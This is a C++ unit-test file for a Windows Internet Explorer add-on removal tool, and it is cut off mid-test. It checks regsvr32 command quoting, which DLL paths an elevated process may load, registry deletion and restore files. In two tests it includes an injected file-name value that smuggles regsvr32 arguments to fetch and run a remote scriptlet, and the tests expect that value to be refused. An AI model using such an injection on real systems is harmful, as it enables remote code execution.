// Removing ticked add-ons against fakes: which are refused, which command
// lines are run, and exactly which registry entries go.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "platform/WideText.h"
#include "manage/AddonRemoval.h"
#include "manage/AddonScan.h"
#include "platform/RegistryViews.h"
#include "tests/support/RegFile.h"
#include "restore/RestoreFiles.h"
#include "tests/contract/RegistryDump.h"
#include "tests/support/FakePlatform.h"
#include "tests/support/AddonTexts.h"

namespace tv {
namespace {

using namespace testing;  // the expected add-on texts

const char kFlashGetMessage[] = "FlashGet 网际快车下载工具,属于必须插件已经取消了卸载操作";

TEST(ProtectedAddons, MatchWholeNamesWithoutRegardToCase) {
    struct Case {
        const char* name;
        const char* message;  // null: not protected
    } cases[] = {
        {"FlashGet", kFlashGetMessage},
        {"flashget bar", kFlashGetMessage},
        {"FLASHGET BAR", kFlashGetMessage},
        {"FlashGet Bar 1", nullptr},
        {"FlashGet ", nullptr},
        {"IeCatch2 Class", kFlashGetMessage},
        {"thunderiehelper class", "Thunder 讯雷下载工具必须插件,属于必须插件已经取消了卸载操作"},
        {"NXIECatcher Class", "影音传送带下载工具必备插件,属于必须插件已经取消了卸载操作"},
        {"netxfer", "影音传送带下载工具插件,属于必须插件已经取消了卸载操作"},
        {"microsoft url 搜索挂接",
         "Microsoft Windows 自带网址定位系统组件,属于必须插件已经取消了卸载操作"},
        {"@SHDOCLC.DLL,-866", "Microsoft Windows 自带系统组件,属于必须插件已经取消了卸载操作"},
        {"卡卡上网安全助手",
         "瑞星卡卡安全助手,属于安全插件已经取消了卸载操作,如果要删除请在[软件卸载]中删除"},
        {"&google", "Google 搜索工具,属于安全插件已经取消了卸载操作,如果要删除请在[软件卸载]中删除"},
        {"Google Toolbar Helper",
         "Google 搜索工具,属于安全插件已经取消了卸载操作,如果要删除请在[软件卸载]中删除"},
        {"Google", nullptr},
        {"", nullptr},
        // The trail byte of "\xB0\x41" is an 'A', not to be folded to 'a'.
        {"\xB0\x41\xB0\x61", nullptr},
    };
    for (const Case& c : cases) {
        const ProtectedAddon* found = FindProtectedAddon(c.name);
        if (c.message == nullptr) {
            EXPECT_EQ(found, nullptr) << c.name;
        } else {
            ASSERT_NE(found, nullptr) << c.name;
            EXPECT_STREQ(found->message, c.message) << c.name;
        }
    }
}

TEST(UnregisterCommand, StartsTheToolOfTheClassViewByFullPathWithTheFileQuoted) {
    const SystemFolders x86{"C:\\Windows", "C:\\Windows\\system32", false, false};
    const SystemFolders wow64{"C:\\Windows", "C:\\Windows\\system32", true, false};
    const SystemFolders x64{"C:\\Windows", "C:\\Windows\\system32", true, true};
    const SystemFolders unknown{"", "", false, false};
    const std::string native = "\"C:\\Windows\\system32\\regsvr32.exe\" /u /s ";
    const std::string sysnative = "\"C:\\Windows\\Sysnative\\regsvr32.exe\" /u /s ";
    const std::string wow = "\"C:\\Windows\\SysWOW64\\regsvr32.exe\" /u /s ";
    struct Case {
        const SystemFolders& folders;
        std::uint32_t classView;
        const char* file;
        std::string command;
    } cases[] = {
        // 32-bit Windows: one system directory, view bits mean nothing.
        {x86, 0, "C:\\Program Files\\Bar\\bar.dll", native + "\"C:\\Program Files\\Bar\\bar.dll\""},
        {x86, kKeyWow64_32Key, "C:\\x.dll", native + "\"C:\\x.dll\""},
        // A name that would not stay one quoted argument starts nothing: a
        // quote would end it early, a final backslash would escape the
        // closing quote, a line break would split the line.
        {x86, 0, "C:\\check\\q.dll\" /n /i:http://h/a.sct scrobj.dll \"", ""},
        {x86, 0, "\"C:\\a b.dll\"", ""},
        {x86, 0, "C:\\a\\", ""},
        {x86, 0, "C:\\a.dll\r\n/i:x", ""},
        {x86, 0, "C:\\a\t.dll", ""},
        {x86, 0, "", ""},
        // A double-byte character whose second byte is a backslash's is not
        // a backslash.
        {x86, 0, "C:\\a\\\x81\x5C", native + "\"C:\\a\\\x81\x5C\""},
        // 64-bit Windows: the 64-bit tool for a 64-bit class (the 32-bit
        // build reaches it through Sysnative), the 32-bit one otherwise.
        {wow64, kKeyWow64_64Key, "C:\\x.dll", sysnative + "\"C:\\x.dll\""},
        {wow64, kKeyWow64_32Key, "C:\\x.dll", wow + "\"C:\\x.dll\""},
        {x64, kKeyWow64_64Key, "C:\\x.dll", native + "\"C:\\x.dll\""},
        {x64, kKeyWow64_32Key, "C:\\a b.dll", wow + "\"C:\\a b.dll\""},
        // No system directory: nothing is started rather than a bare name.
        {unknown, 0, "C:\\x.dll", ""},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(UnregisterCommand(c.folders, c.classView, c.file), c.command) << c.file;
    }
}

// Only a plain path below the Windows folder (outside the folders every
// user may write) or a Program Files folder is loaded by the elevated tool.
TEST(UnregisterFile, OnlyPlainPathsInFoldersOnlyAdministratorsWriteAreLoaded) {
    const std::vector<std::string> programFiles = {"C:\\Program Files", "C:\\Program Files (x86)"};
    using R = UnregisterRefusal;
    struct Case {
        const char* file;
        UnregisterRefusal refusal;
    } cases[] = {
        {"C:\\Windows\\system32\\shdocvw.dll", R::None},
        {"c:\\WINDOWS\\SysWOW64\\x.dll", R::None},
        {"C:\\Program Files\\Bar\\bar.dll", R::None},
        {"C:\\Program Files (x86)\\Bar\\中文.dll", R::None},
        // Every drive letter is a drive, the last ones too (Wine's Z:).
        {"Z:\\bar.dll", R::UserWritable},
        {"z:\\bar.dll", R::UserWritable},
        {"A:\\bar.dll", R::UserWritable},
        {"", R::NoFile},
        {"C:\\check\\q.dll\" /n /i:http://h/a.sct scrobj.dll \"", R::UnsafeName},
        {"C:\\Program Files\\a\\", R::UnsafeName},
        {"C:\\Program Files\\a\n.dll", R::UnsafeName},
        // Names the system would read as another path than the text says.
        {"bar.dll", R::NotPlainPath},
        {"\\\\server\\share\\bar.dll", R::NotPlainPath},
        {"@:\\Program Files\\Bar\\bar.dll", R::NotPlainPath},  // no drive letter
        {"\\\\?\\C:\\Windows\\x.dll", R::NotPlainPath},
        {"C:bar.dll", R::NotPlainPath},
        {"%SystemRoot%\\system32\\x.dll", R::NotPlainPath},
        {"C:\\Program Files\\..\\Users\\u\\x.dll", R::NotPlainPath},
        {"C:\\Windows\\.\\Temp\\x.dll", R::NotPlainPath},
        {"C:\\Windows\\\\Temp\\x.dll", R::NotPlainPath},
        {"C:\\Windows\\Temp.\\x.dll", R::NotPlainPath},
        {"C:\\Windows\\Temp \\x.dll", R::NotPlainPath},
        {"C:\\Windows/../Users\\x.dll", R::NotPlainPath},
        {"C:\\Windows\\x.dll:ads", R::NotPlainPath},
        {"C:\\Windows\\REGIST~1\\CRMLog\\x.dll", R::NotPlainPath},
        {"C:\\Windows\\system32\\x.dll.", R::NotPlainPath},
        // Folders every user may write.
        {"C:\\Users\\u\\AppData\\Roaming\\bar.dll", R::UserWritable},
        {"C:\\ProgramData\\bar.dll", R::UserWritable},
        {"C:\\Program Files Evil\\bar.dll", R::UserWritable},
        {"C:\\Windows\\Temp\\x.dll", R::UserWritable},
        {"C:\\windows\\tasks\\x.dll", R::UserWritable},
        {"C:\\Windows\\System32\\spool\\drivers\\color\\x.dll", R::UserWritable},
        {"C:\\Windows\\SysWOW64\\Tasks\\x.dll", R::UserWritable},
        {"D:\\Windows\\system32\\x.dll", R::UserWritable},
    };
    for (const Case& c : cases)
        EXPECT_EQ(CheckUnregisterFile(c.file, "C:\\Windows", programFiles), c.refusal) << c.file;
    // The folders are the system's: without them nothing qualifies.
    EXPECT_EQ(CheckUnregisterFile("C:\\Program Files\\Bar\\bar.dll", "", {}), R::UserWritable);
}

class AddonRemovalTest : public ::testing::Test {
protected:
    void SetUp() override {
        // Two entries in each location, and the class keys behind them.
        for (const char* id : {"{T1}", "{T2}"}) {
            RegKey::Create(registry_, kHkeyLocalMachine, kToolbarKey).SetString(id, "");
            AddClass(id);
        }
        for (const char* id : {"{H1}", "{H2}"}) {
            RegKey::Create(registry_, kHkeyCurrentUser, kHooksKey).SetString(id, "");
            // A hook value of the same name on the machine side must stay.
            RegKey::Create(registry_, kHkeyLocalMachine, kHooksKey).SetString(id, "");
            AddClass(id);
        }
        for (const char* id : {"{B1}", "{B2}"}) {
            RegKey::Create(registry_, kHkeyLocalMachine, std::string(kHelpersKey) + "\\" + id);
            AddClass(id);
        }
        for (const char* id : {"{E1}", "{E2}"}) {
            RegKey::Create(registry_, kHkeyLocalMachine, std::string(kExtensionsKey) + "\\" + id)
                .SetString("exec", "e.exe");
        }
    }
    void AddClass(const std::string& id) {
        RegKey::Create(registry_, kHkeyClassesRoot, "CLSID\\" + id + "\\InprocServer32")
            .SetString("", ClassFile(id));
    }
    static std::string ClassFile(const std::string& id) { return "C:\\Program Files\\A\\" + id + ".dll"; }
    // The restore file as UTF-16 text, and the one file there is.
    std::u16string RestoreText() {
        std::vector<FolderEntry> kept;
        fakes_.files.ListFolder(RestoreFolderPath(fakes_.Get()), &kept);
        if (kept.size() != 1) return u"(" + fakes_.codec.AnsiToWide(std::to_string(kept.size())) + u" files)";
        const std::string bytes = fakes_.files.Contents(RestoreFolderPath(fakes_.Get()) + "\\" + kept[0].name.Shown());
        std::u16string text = utf16::FromBytes(std::string_view(bytes).substr(2));
        return text;
    }
    bool HasLine(const std::u16string& text, const std::string& line) {
        return text.find(u"\r\n" + fakes_.codec.AnsiToWide(line) + u"\r\n") != std::u16string::npos;
    }
    std::vector<std::string> Dump(RegHandle root, const std::string& path) {
        return tvtest::DumpTree(registry_, root, path);
    }
    void Remove(const std::vector<AddonRow>& ticked) { RemoveAddons(fakes_.Get(), ticked); }

    testing::FakePlatform fakes_;
    FakeRegistry& registry_ = fakes_.registry;
};

TEST_F(AddonRemovalTest, EachTypeDeletesExactlyItsEntryInItsLocation) {
    struct Case {
        AddonRow row;
        RegHandle root;
        std::string path;
    } cases[] = {
        // Each row as the list shows it: the machine's class, unnamed.
        {{"{T2}", "", kToolbarType, ClassFile("{T2}"), 0}, kHkeyLocalMachine, kToolbarKey},
        {{"{H1}", "", kHookType, ClassFile("{H1}"), 0}, kHkeyCurrentUser, kHooksKey},
        {{"{B1}", "", kHelperType, ClassFile("{B1}"), 1}, kHkeyLocalMachine, kHelpersKey},
        {{"{E2}", "Ext", kExtensionType, "", 2}, kHkeyLocalMachine, kExtensionsKey},
        // Any other type text is taken for an extension.
        {{"{E1}", "Ext", "something else", "", 2}, kHkeyLocalMachine, kExtensionsKey},
    };
    for (const Case& c : cases) {
        SetUp();
        auto machine = Dump(kHkeyLocalMachine, "SOFTWARE");
        auto user = Dump(kHkeyCurrentUser, "Software");
        fakes_.shell.Clear();

        Remove({c.row});

        // The class's file as the machine registers it; an extension names
        // no class, and a search hook is the user's registration: neither
        // starts anything.
        EXPECT_TRUE(fakes_.shell.Commands().empty());
        if (c.row.typeText == kExtensionType || c.row.typeText == std::string("something else") ||
            c.root == kHkeyCurrentUser) {
            EXPECT_TRUE(fakes_.shell.Processes().empty());
        } else {
            ASSERT_EQ(fakes_.shell.Processes().size(), 1u);
            EXPECT_EQ(fakes_.shell.Processes()[0].application, "C:\\Windows\\system32\\regsvr32.exe");
            EXPECT_EQ(fakes_.shell.Processes()[0].commandLine,
                      "\"C:\\Windows\\system32\\regsvr32.exe\" /u /s \"" + ClassFile(c.row.name.Shown()) + "\"");
            EXPECT_EQ(fakes_.shell.Processes()[0].showCommand, kSwHide);
        }
        EXPECT_TRUE(fakes_.prompter.Prompts().empty());
        // Only lines naming the entry are gone, and only under its root; the
        // class registration is left to the unregistration command.
        bool userSide = c.root == kHkeyCurrentUser;
        auto machineAfter = Dump(kHkeyLocalMachine, "SOFTWARE");
        auto userAfter = Dump(kHkeyCurrentUser, "Software");
        std::string entry = c.path.substr(c.path.rfind('\\') + 1);
        auto without = [&](const std::vector<std::string>& lines) {
            std::vector<std::string> kept;
            for (const std::string& line : lines) {
                bool inLocation = line.find(entry + "]") != std::string::npos ||
                                  line.find(entry + "\\") != std::string::npos;
                if (!(inLocation && line.find(c.row.name.Shown()) != std::string::npos)) kept.push_back(line);
            }
            return kept;
        };
        EXPECT_EQ(machineAfter, userSide ? machine : without(machine)) << c.row.name.Shown();
        EXPECT_EQ(userAfter, userSide ? without(user) : user) << c.row.name.Shown();
        EXPECT_LT(machineAfter.size() + userAfter.size(), machine.size() + user.size()) << c.row.name.Shown();
        EXPECT_EQ(registry_.OpenHandleCount(), 0u);
        EXPECT_FALSE(registry_.ViewBitsSeen());  // 32-bit Windows: no view bits
    }
}

// The restore file of one add-on is named after it: by the name the list
// shows, or by its id where it shows none; of several, by none.
TEST_F(AddonRemovalTest, TheRestoreFileOfOneAddonIsNamedAfterIt) {
    struct Case {
        std::vector<AddonRow> rows;
        const char* file;
    } cases[] = {
        {{{"{E2}", "Ext", kExtensionType, "", 2}}, "2009-10-25 12.00.00 删除IE插件 Ext.reg"},
        {{{"{T2}", "", kToolbarType, ClassFile("{T2}"), 0}}, "2009-10-25 12.00.00 删除IE插件 {T2}.reg"},
        {{{"{H1}", "", kHookType, ClassFile("{H1}"), 0}, {"{B1}", "", kHelperType, ClassFile("{B1}"), 1}},
         "2009-10-25 12.00.00 删除IE插件.reg"},
    };
    for (const Case& c : cases) {
        SetUp();
        Remove(c.rows);
        std::vector<FolderEntry> kept;
        fakes_.files.ListFolder(RestoreFolderPath(fakes_.Get()), &kept);
        std::vector<std::string> names;
        for (const FolderEntry& entry : kept) names.push_back(entry.name.Shown());
        EXPECT_NE(std::find(names.begin(), names.end(), c.file), names.end()) << c.file;
    }
}

// Registrations named in Hangul read as "?" through the ANSI calls, which
// here is also the name of other entries: the scanned rows name them
// exactly, and exactly they go, kept by their exact names; no class is
// looked for under such a name.
TEST_F(AddonRemovalTest, ANameInAnyScriptIsTheOneThatGoes) {
    const std::u16string toolbar = u"{T}\uCE74", helper = u"{B}\uCE74";
    RegKey bars = RegKey::Create(registry_, kHkeyLocalMachine, kToolbarKey);
    ASSERT_EQ(registry_.SetValueW(bars.Handle(), toolbar, kRegSz, "\0\0", 2), kErrorSuccess);
    bars.SetString("{T}?", "");
    RegHandle key = 0;
    ASSERT_EQ(registry_.CreateKeyW(kHkeyLocalMachine,
                                   fakes_.codec.AnsiToWide(kHelpersKey) + u"\\" + helper, &key),
              kErrorSuccess);
    registry_.CloseKey(key);
    RegKey::Create(registry_, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B}?");

    std::vector<AddonRow> hangul;
    for (const AddonRow& row : ScanAddons(registry_, false, fakes_.codec))
        if (row.name.Stored() == toolbar || row.name.Stored() == helper) hangul.push_back(row);
    ASSERT_EQ(hangul.size(), 2u);
    Remove(hangul);

    EXPECT_TRUE(fakes_.shell.Processes().empty());
    EXPECT_EQ(registry_.QueryValueW(bars.Handle(), toolbar, nullptr, nullptr, nullptr), kErrorFileNotFound);
    EXPECT_EQ(registry_.QueryValueW(bars.Handle(), u"{T}?", nullptr, nullptr, nullptr), kErrorSuccess);
    EXPECT_FALSE(RegKey::OpenW(registry_, kHkeyLocalMachine,
                               fakes_.codec.AnsiToWide(kHelpersKey) + u"\\" + helper, kKeyRead));
    EXPECT_TRUE(RegKey::Open(registry_, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B}?", kKeyRead));
    const std::u16string text = RestoreText();
    EXPECT_NE(text.find(u"\r\n\"" + toolbar + u"\"=\"\"\r\n"), std::u16string::npos) << std::string(text.begin(), text.end());
    EXPECT_NE(text.find(u"\\" + helper + u"]\r\n"), std::u16string::npos);
    EXPECT_EQ(text.find(u"{T}?"), std::u16string::npos);
    EXPECT_EQ(text.find(u"{B}?"), std::u16string::npos);
}

// A class file in a folder named outside the code page: the tool gets it
// exactly, through the Unicode call, and the restore file names it exactly;
// one in the user's folders still is not loaded, and its note names it.
TEST_F(AddonRemovalTest, AClassFileNamedInAnyScriptReachesTheToolExactly) {
    const std::u16string safe = u"C:\\Program Files\\\uCE74\\k.dll";
    const std::u16string users = u"C:\\Users\\\uCE74\\u.dll";
    for (const auto& [id, file] : {std::pair{"{T1}", safe}, std::pair{"{T2}", users}}) {
        RegHandle key = 0;
        ASSERT_EQ(registry_.CreateKeyW(kHkeyLocalMachine,
                                       u"Software\\Classes\\CLSID\\" + fakes_.codec.AnsiToWide(id) +
                                           u"\\InprocServer32",
                                       &key),
                  kErrorSuccess);
        const std::u16string data = file + u'\0';
        registry_.SetValueW(key, u"", kRegSz, data.data(), static_cast<std::uint32_t>(data.size() * 2));
        registry_.CloseKey(key);
    }
    // The class names a ProgID in Hangul; a key named as the code page
    // spells it is another one.
    const std::u16string progId = u"\uCE74.1";
    RegKey progIdValue = RegKey::Create(registry_, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{T1}\\ProgID");
    ASSERT_EQ(registry_.SetValueW(progIdValue.Handle(), u"", kRegSz, (progId + u'\0').data(),
                                  static_cast<std::uint32_t>(progId.size() * 2 + 2)),
              kErrorSuccess);
    RegHandle key = 0;
    ASSERT_EQ(registry_.CreateKeyW(kHkeyLocalMachine, u"Software\\Classes\\" + progId, &key), kErrorSuccess);
    registry_.CloseKey(key);
    RegKey::Create(registry_, kHkeyLocalMachine, "Software\\Classes\\?.1");
    Remove({{"{T1}", "", kToolbarType, fakes_.codec.WideToAnsi(safe), 0},
            {"{T2}", "", kToolbarType, fakes_.codec.WideToAnsi(users), 0}});

    EXPECT_TRUE(fakes_.shell.Processes().empty());
    ASSERT_EQ(fakes_.shell.ExactProcesses().size(), 1u);
    EXPECT_EQ(fakes_.shell.ExactProcesses()[0].application, u"C:\\Windows\\system32\\regsvr32.exe");
    EXPECT_EQ(fakes_.shell.ExactProcesses()[0].commandLine,
              u"\"C:\\Windows\\system32\\regsvr32.exe\" /u /s \"" + safe + u"\"");
    const std::u16string text = RestoreText();
    EXPECT_NE(text.find(u"\r\n; " + fakes_.codec.AnsiToWide("如需重新注册该文件，请以管理员身份运行：") +
                        u"\"C:\\Windows\\system32\\regsvr32.exe\" /s \"" + safe + u"\"\r\n"),
              std::u16string::npos);
    EXPECT_NE(text.find(u"\r\n[HKEY_LOCAL_MACHINE\\Software\\Classes\\" + progId + u"]\r\n"),
              std::u16string::npos);
    EXPECT_EQ(text.find(u"?.1]"), std::u16string::npos);
    EXPECT_NE(text.find(u"\r\n; " + fakes_.codec.AnsiToWide("未反注册文件：") + users +
                        fakes_.codec.AnsiToWide("（文件不在 Windows 或 Program Files 文件夹中，普通用户也能改写，不以管理员身份加载）") +
                        u"\r\n"),
              std::u16string::npos);
}

TEST_F(AddonRemovalTest, ProtectedRowIsRefusedAndTheOtherRemoved) {
    RegKey::Create(registry_, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{T2}").SetString("", "FlashGet Bar 1");
    auto machine = Dump(kHkeyLocalMachine, "SOFTWARE");
    Remove({{"{T1}", "flashget bar", kToolbarType, "C:\\fg.dll", 0},
            {"{T2}", "FlashGet Bar 1", kToolbarType, ClassFile("{T2}"), 0}});

    ASSERT_EQ(fakes_.prompter.Prompts().size(), 1u);
    const Prompt& box = fakes_.prompter.Prompts()[0];
    EXPECT_EQ(box.text, kFlashGetMessage);
    EXPECT_EQ(box.caption, "");
    EXPECT_EQ(box.type, kMbOk | kMbIconExclamation);

    ASSERT_EQ(fakes_.shell.Processes().size(), 1u);
    EXPECT_EQ(fakes_.shell.Processes()[0].commandLine,
              "\"C:\\Windows\\system32\\regsvr32.exe\" /u /s \"" + ClassFile("{T2}") + "\"");

    RegKey toolbar = RegKey::Open(registry_, kHkeyLocalMachine, kToolbarKey, kKeyRead);
    EXPECT_EQ(toolbar.ValueNames(), std::vector<std::string>{"{T1}"});
}

TEST_F(AddonRemovalTest, EveryProtectedRowGetsItsOwnMessageInRowOrder) {
    Remove({{"{B1}", "卡卡上网安全助手", kHelperType, "k.dll", 1},
            {"{E1}", "NetXfer", kExtensionType, "n.exe", 2},
            {"{H1}", "ThunderIEHelper Class", kHookType, "t.dll", 0}});
    ASSERT_EQ(fakes_.prompter.Prompts().size(), 3u);
    EXPECT_EQ(fakes_.prompter.Prompts()[0].text,
              "瑞星卡卡安全助手,属于安全插件已经取消了卸载操作,如果要删除请在[软件卸载]中删除");
    EXPECT_EQ(fakes_.prompter.Prompts()[1].text, "影音传送带下载工具插件,属于必须插件已经取消了卸载操作");
    EXPECT_EQ(fakes_.prompter.Prompts()[2].text,
              "Thunder 讯雷下载工具必须插件,属于必须插件已经取消了卸载操作");
    EXPECT_TRUE(fakes_.shell.Processes().empty());
    EXPECT_EQ(RegKey::Open(registry_, kHkeyLocalMachine, kHelpersKey, kKeyRead).SubKeyNames().size(), 2u);
}

// On 64-bit Windows a row of the 32-bit view removes the registration of
// that view alone, with the 32-bit registration tool; the 64-bit one of the
// same name stays.
TEST_F(AddonRemovalTest, ARowOfOneViewRemovesThatViewsEntryWithItsTool) {
    FakeRegistry& registry = fakes_.registry;
    registry.UseViews(FakeRegistry::Views::TwoFor32BitProgram);
    fakes_.system.is64BitSystem = true;
    fakes_.environment.programFilesFolders = {"C:\\Program Files", "C:\\Program Files (x86)"};
    for (std::uint32_t view : {kKeyWow64_64Key, kKeyWow64_32Key}) {
        RegKey::Create(registry, kHkeyLocalMachine, kToolbarKey, view).SetString("{V}", "");
        RegKey::Create(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{V}", view);
        RegKey::Create(registry, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{V}\\InprocServer32", view)
            .SetString("", view == kKeyWow64_32Key ? "C:\\Program Files (x86)\\v.dll" : "C:\\Program Files\\v.dll");
    }
    AddonRow toolbar{"{V}", "", kToolbarType, "C:\\Program Files (x86)\\v.dll", 0};
    toolbar.view = toolbar.classView = kKeyWow64_32Key;
    AddonRow helper{"{V}", "", kHelperType, "C:\\Program Files\\v.dll", 1};
    helper.view = helper.classView = kKeyWow64_64Key;
    Remove({toolbar, helper});

    ASSERT_EQ(fakes_.shell.Processes().size(), 2u);
    EXPECT_EQ(fakes_.shell.Processes()[0].application, "C:\\Windows\\SysWOW64\\regsvr32.exe");
    EXPECT_EQ(fakes_.shell.Processes()[0].commandLine,
              "\"C:\\Windows\\SysWOW64\\regsvr32.exe\" /u /s \"C:\\Program Files (x86)\\v.dll\"");
    const std::string native =
        std::string(kProgramIs64Bit ? "C:\\Windows\\system32" : "C:\\Windows\\Sysnative") + "\\regsvr32.exe";
    EXPECT_EQ(fakes_.shell.Processes()[1].application, native);
    EXPECT_EQ(fakes_.shell.Processes()[1].commandLine,
              "\"" + native + "\" /u /s \"C:\\Program Files\\v.dll\"");
    // Each view's machine class key, by the name the 64-bit view knows it.
    const std::u16string restore = RestoreText();
    EXPECT_TRUE(HasLine(restore, "[HKEY_LOCAL_MACHINE\\Software\\Classes\\Wow6432Node\\CLSID\\{V}]"));
    EXPECT_TRUE(HasLine(restore, "[HKEY_LOCAL_MACHINE\\Software\\Classes\\CLSID\\{V}]"));
    std::string data;
    EXPECT_TRUE(RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead | kKeyWow64_64Key)
                    .ReadString("{V}", 8, &data));
    EXPECT_FALSE(RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead | kKeyWow64_32Key)
                     .ReadString("{V}", 8, &data));
    EXPECT_FALSE(RegKey::Open(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{V}",
                              kKeyRead | kKeyWow64_64Key));
    EXPECT_TRUE(RegKey::Open(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{V}",
                             kKeyRead | kKeyWow64_32Key));
    EXPECT_EQ(registry.OpenHandleCount(), 0u);

    // The restore file names each entry where it lived: imported as the
    // registry editor of 64-bit Windows does, in the 64-bit view, both
    // come back to their own view.
    std::vector<FolderEntry> kept;
    fakes_.files.ListFolder(RestoreFolderPath(fakes_.Get()), &kept);
    ASSERT_EQ(kept.size(), 1u);
    registry.UseViews(FakeRegistry::Views::TwoFor64BitProgram);
    ASSERT_TRUE(ImportRegFile(
        registry, fakes_.files.Contents(RestoreFolderPath(fakes_.Get()) + "\\" + kept[0].name.Shown()),
        fakes_.codec));
    EXPECT_TRUE(RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead | kKeyWow64_32Key)
                    .ReadString("{V}", 8, &data));
    EXPECT_TRUE(RegKey::Open(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{V}",
                             kKeyRead | kKeyWow64_64Key));
}

TEST_F(AddonRemovalTest, HelperWithSubkeysStays) {
    RegKey::Create(registry_, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B1}\\Settings");
    Remove({{"{B1}", "", kHelperType, ClassFile("{B1}"), 1}});
    EXPECT_EQ(RegKey::Open(registry_, kHkeyLocalMachine, kHelpersKey, kKeyRead).SubKeyNames(),
              (std::vector<std::string>{"{B1}", "{B2}"}));
    EXPECT_EQ(fakes_.shell.Processes().size(), 1u);
}

TEST_F(AddonRemovalTest, AMissingLocationDeletesNothingElsewhere) {
    ASSERT_EQ(DeleteKeyTree(registry_, kHkeyLocalMachine, kToolbarKey), kErrorSuccess);
    auto machine = Dump(kHkeyLocalMachine, "SOFTWARE");
    auto user = Dump(kHkeyCurrentUser, "Software");
    Remove({{"{X}", "Gone", kToolbarType, "x.dll", 0}});
    EXPECT_EQ(Dump(kHkeyLocalMachine, "SOFTWARE"), machine);
    EXPECT_EQ(Dump(kHkeyCurrentUser, "Software"), user);
}

// Before anything goes, one restore file keeps the entries and the class
// keys their unregistration takes away; importing it brings all back. When
// it cannot be written nothing is unregistered or deleted.
TEST_F(AddonRemovalTest, RestoreFileBringsBackEntriesAndClassKeys) {
    const std::vector<AddonRow> rows = {
        {"{T2}", "", kToolbarType, ClassFile("{T2}"), 0},
        {"{H1}", "", kHookType, ClassFile("{H1}"), 0},
        {"{B1}", "", kHelperType, ClassFile("{B1}"), 1},
        {"{E2}", "Ext", kExtensionType, "", 2},
        {"{T1}", "FlashGet", kToolbarType, "f.dll", 0},  // refused: not in the file
    };
    RegKey::Create(registry_, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B1}\\Settings")
        .SetDword("On", 1);
    AddClass("{E2}");
    for (bool full : {true, false}) {
        SCOPED_TRACE(full ? "disk full" : "written");
        const auto machine = Dump(kHkeyLocalMachine, "SOFTWARE");
        const auto user = Dump(kHkeyCurrentUser, "Software");
        fakes_.files.SetFull(full);
        Remove(rows);
        std::vector<FolderEntry> kept;
        fakes_.files.ListFolder(RestoreFolderPath(fakes_.Get()), &kept);
        if (full) {
            EXPECT_TRUE(kept.empty());
            EXPECT_TRUE(fakes_.shell.Processes().empty());
            ASSERT_EQ(fakes_.prompter.Prompts().size(), 1u);
            EXPECT_EQ(fakes_.prompter.Prompts()[0].text, kRestoreFailedMessage);
            EXPECT_EQ(Dump(kHkeyLocalMachine, "SOFTWARE"), machine);
            continue;
        }
        ASSERT_EQ(kept.size(), 1u);
        EXPECT_EQ(kept[0].name.Shown(), "2009-10-25 12.00.00 删除IE插件.reg");
        // Class keys are kept for the types that name a class; an
        // extension's id names none, even where a class of that id exists.
        std::string ascii;
        const std::string file = fakes_.files.Contents(RestoreFolderPath(fakes_.Get()) + "\\" + kept[0].name.Shown());
        for (size_t i = 2; i < file.size(); i += 2) ascii.push_back(file[i]);
        // Under the machine's own key: importing puts it back where it was,
        // never as a class of HKCR that could land in the user's hive.
        EXPECT_NE(ascii.find("\n[HKEY_LOCAL_MACHINE\\Software\\Classes\\CLSID\\{T2}]"), std::string::npos);
        EXPECT_EQ(ascii.find("HKEY_CLASSES_ROOT"), std::string::npos);
        EXPECT_EQ(ascii.find("CLSID\\{E2}"), std::string::npos);
        // What the unregistration does: the class keys go too (the
        // search hook is the user's registration: its class is not
        // unregistered).
        for (const char* id : {"{T2}", "{B1}"})
            DeleteKeyTree(registry_, kHkeyClassesRoot, std::string("CLSID\\") + id);
        DeleteKeyTree(registry_, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B1}");
        ASSERT_NE(Dump(kHkeyLocalMachine, "SOFTWARE"), machine);
        const std::string bytes =
            fakes_.files.Contents(RestoreFolderPath(fakes_.Get()) + "\\" + kept[0].name.Shown());
        ASSERT_TRUE(ImportRegFile(registry_, bytes, fakes_.codec));
        auto sorted = [](std::vector<std::string> lines) {
            std::sort(lines.begin(), lines.end());
            return lines;
        };
        EXPECT_EQ(sorted(Dump(kHkeyLocalMachine, "SOFTWARE")), sorted(machine));
        EXPECT_EQ(sorted(Dump(kHkeyCurrentUser, "Software")), sorted(user));
    }
}

// What the registration tool is given comes from the machine's own class in
// the row's view, never from a class the user registered (which Windows 7
// shows through HKCR over the machine's); a file it must not load is not
// unregistered, but the entry still goes and the restore file says why.
TEST_F(AddonRemovalTest, OnlyTheMachinesSafeClassFileIsUnregistered) {
    const std::string tool = "C:\\Windows\\system32\\regsvr32.exe";
    const std::string head = "; 未反注册文件：";
    struct Case {
        const char* machineFile;  // null: no machine class
        const char* userFile;     // null: no user class
        const char* started;      // the file given to the tool; null: none
        std::string note;         // the restore file's line; empty: none
    } cases[] = {
        {"C:\\Windows\\system32\\bar.dll", nullptr, "C:\\Windows\\system32\\bar.dll", ""},
        {"C:\\Program Files\\Bar\\bar.dll", nullptr, "C:\\Program Files\\Bar\\bar.dll", ""},
        // The user's class shadows the machine's: the row shows the
        // user's file, so nothing is unregistered.
        {"C:\\Program Files\\Bar\\bar.dll", "C:\\Users\\test\\evil.dll", nullptr,
         head + "C:\\Users\\test\\evil.dll（显示的名称或文件来自当前用户注册的类，只删除它的登记，不以管理员身份加载它的文件）"},
        {nullptr, "C:\\Users\\test\\evil.dll", nullptr,
         head + "C:\\Users\\test\\evil.dll（只有当前用户注册了这个类，不以管理员身份加载它的文件）"},
